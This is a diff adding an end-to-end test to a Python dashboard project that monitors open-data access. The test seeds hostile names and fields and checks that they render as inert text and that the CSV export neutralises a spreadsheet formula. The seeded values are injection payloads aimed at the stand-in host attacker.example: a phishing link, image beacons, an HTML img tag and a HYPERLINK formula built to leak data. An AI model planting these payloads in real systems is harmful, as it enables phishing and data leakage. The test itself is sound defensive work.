@@ -350,3 +350,94 @@ def test_admin_visits_every_page_acts_and_exports(server, browser):
     # The entries of both of serve's processes (the demo build, the dashboard) verify under one key.
     verified = server.odwatch("audit", "verify")
     assert verified.returncode == 0, verified.stdout
+
+
+# ---- Hostile input: a platform whose callers chose their names, fields, scenarios and agents -------------
+
+LINK = "[Re-auth](http://attacker.example/phish)"
+IMAGE = "![pix](http://attacker.example/x.png)"
+FORMULA = '=HYPERLINK("http://attacker.example/?leak","click me")'
+TAG = '<img src="http://attacker.example/t.png">'
+HOSTILE_PASSWORD = "correct horse battery staple"
+HOSTILE_PLATFORM = f"""
+from datetime import date, timedelta
+from dashboard import auth
+from detectors import store
+from detectors.base import Alert
+from odwatch import clock
+from odwatch.settings import get_settings
+from warehouse import connect
+
+client = connect(get_settings())
+client.insert("agencies", [["a1", "市交通委", "", "city_bureau"]],
+              column_names=["agency_id", "name", "name_en", "kind"])
+client.insert("datasets", [["d1", "a1", {IMAGE!r}, "交通", "conditional", date(2024, 1, 1)]],
+              column_names=["dataset_id", "agency_id", "name", "domain", "open_class", "published_at"])
+client.insert("consumers", [["c-link", {LINK!r}, "company", "91310000MA1FL0BQ3X"],
+                            ["c-formula", {FORMULA!r}, "company", "91310000MA1FL0BQ3X"],
+                            ["c-tag", {TAG!r}, "person", ""]],
+              column_names=["consumer_id", "name", "kind", "credit_code"])
+now = clock.now()
+rows = [[f"e{{n}}", now - timedelta(hours=n + 1), "c-link", "d1", "api", 200, [{IMAGE!r}, "name"], {LINK!r},
+         "203.0.113.9", {TAG!r}] for n in range(20)]
+client.insert("access_log", rows, column_names=["event_id", "ts", "consumer_id", "dataset_id", "channel",
+                                                "status", "fields", "scenario", "client_ip", "user_agent"])
+day = clock.floor_to_day(now) - timedelta(days=1)
+store.save_alerts(client, [
+    Alert(detector_id="agreement.fields_outside_agreement", category="fields_outside_agreement",
+          article="第三十一条", severity="critical", score=5.0, message="alerts.fields_outside_agreement",
+          params={{"fields": [{IMAGE!r}]}}, window_start=day, window_end=day + timedelta(days=1),
+          consumer_id="c-link", dataset_id="d1"),
+    Alert(detector_id="agreement.scenario_mismatch", category="scenario_mismatch", article="第三十一条",
+          severity="high", score=3.0, message="alerts.scenario_mismatch", params={{"scenarios": [{LINK!r}]}},
+          window_start=day, window_end=day + timedelta(days=1), consumer_id="c-tag", dataset_id="d1")])
+client.command("INSERT INTO violations (violation_id, consumer_id, key_id, dataset_id, agency_id, category, "
+               "description, alert_ids, recorded_at, recorded_by, severity, publicized) VALUES "
+               "('v1', 'c-formula', '', 'd1', 'a1', 2, {LINK!r}, [], now(), 's', 'high', 1)")
+auth.add_user(client, "e2e_admin", "admin", {HOSTILE_PASSWORD!r})
+"""
+
+
+@pytest.fixture(scope="module")
+def hostile_server(tmp_path_factory):
+    data_dir = tmp_path_factory.mktemp("e2e-hostile")
+    seeded = subprocess.run([sys.executable, "-c", HOSTILE_PLATFORM], cwd=ROOT, env=odwatch_env(data_dir),
+                            capture_output=True, text=True, timeout=300)
+    assert seeded.returncode == 0, seeded.stderr[-2000:]
+    served = Server(data_dir, free_port())             # not empty: no demo is built
+    try:
+        served.wait_healthy()
+        yield served
+    finally:
+        served.stop()
+
+
+def assert_nothing_live(page, where: str) -> None:
+    """No image, link or element the hostile text asked for: it shows as text."""
+    live = page.locator('img[src*="attacker"], a[href*="attacker"], [src*="attacker.example"]')
+    assert live.count() == 0, f"{where}: {live.first.evaluate('e => e.outerHTML')[:300]}"
+
+
+def test_hostile_names_fields_and_agents_show_as_text_and_the_notice_csv_is_neutralised(hostile_server,
+                                                                                         browser):
+    context = new_context(browser, accept_downloads=True)
+    page = context.new_page()
+    page.goto(f"{hostile_server.url}/public-notice")
+    page.get_by_role("heading", name=ZH["notice.title"]).wait_for()
+    settle(page)
+    assert_nothing_live(page, "public notice")
+    with page.expect_download() as download_info:
+        page.get_by_role("button", name=ZH["shell.download_csv"]).first.click()
+    notice = Path(download_info.value.path()).read_text(encoding="utf-8-sig")
+    assert f"'{FORMULA}".replace('"', '""') in notice and f",{FORMULA}".replace('"', '""') not in notice
+
+    sign_in(page, hostile_server.url, "e2e_admin", HOSTILE_PASSWORD)
+    for spec in navigation.pages_for("admin"):
+        open_page(page, spec)
+        assert_no_error_box(page, spec.key)
+        assert_nothing_live(page, spec.key)
+    open_page(page, navigation.PAGES[[p.key for p in navigation.PAGES].index("triage")])
+    page.get_by_text("![pix](http://attacker.example/x.png)", exact=False).first.wait_for()
+    page.screenshot(path=str(ARTIFACTS / "hostile-triage.png"), full_page=True)
+    assert_nothing_live(page, "triage detail")
+    context.close()
